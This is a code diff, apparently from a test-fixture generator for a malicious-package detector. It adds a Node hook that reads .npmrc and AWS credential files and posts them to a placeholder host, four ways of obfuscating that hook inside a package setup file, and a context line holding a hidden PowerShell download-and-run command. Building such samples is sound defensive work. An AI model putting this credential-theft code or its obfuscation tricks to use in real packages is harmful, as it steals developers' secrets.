@@ -10,7 +10,26 @@ const file = (name: string, text: string | Uint8Array): Uint8Array => writeZip([
 const ENCODED = Buffer.from(FETCH).toString('base64')
 const BYTES = [...Buffer.from(FETCH)].join(', ')
 const POWERSHELL = `powershell -w hidden -enc ${Buffer.from(`iex(irm http://${SERVER}/a)`, 'utf16le').toString('base64')}`
+/** A hook of a package for Node that sends keys away, and one that says which computer it runs on. */
+const SENDS =
+  "const os=require('os'),https=require('https'),fs=require('fs');const l=['.npmrc','.aws/credentials'].map(f=>fs.readFileSync(os.homedir()+'/'+f,'utf8'));https.request({host:'a.example',method:'POST'}).end(JSON.stringify({h:os.hostname(),l}))"
+const SAYS = "const os=require('os');console.log('Building for',os.platform(),os.arch(),'with',process.version)"
+const masked = (text: string): string => `[${[...Buffer.from(text)].map((byte) => byte ^ 41)}]`
+const hexed = (text: string): string => Buffer.from(Buffer.from(text).map((byte) => byte ^ 7)).toString('hex')
+const HOOKS: Readonly<Record<string, (text: string) => string>> = {
+  'changed numbers': (text) => `eval(Buffer.from(${masked(text)}.map(x=>x^41)).toString())`,
+  'a function of a changed buffer': (text) =>
+    `const f=new Function('require',Buffer.from('${hexed(text)}','hex').map((x)=>x^7).toString());f(require)`,
+  'a module of reversed text': (text) =>
+    `const m=new (require('module'))();m._compile(atob('${[...btoa(text)].reverse().join('')}'.split('').reverse().join('')),'a')`,
+  'joined pieces': (text) =>
+    `const vm=require('vm');const p=${JSON.stringify(btoa(text).match(/.{1,20}/g))};vm.runInThisContext(Buffer.from(p.join(''),'base64').toString('utf8'))`,
+}
+
 const FILES: readonly (readonly [name: string, path: string, attack: string, harmless: string])[] = [
+  ...Object.entries(HOOKS).map(
+    ([name, write]) => [`a hook that runs ${name}`, 'package/lib/setup.js', write(SENDS), write(SAYS)] as const,
+  ),
   [
     'build.rs with a coded command',
     'a/build.rs',
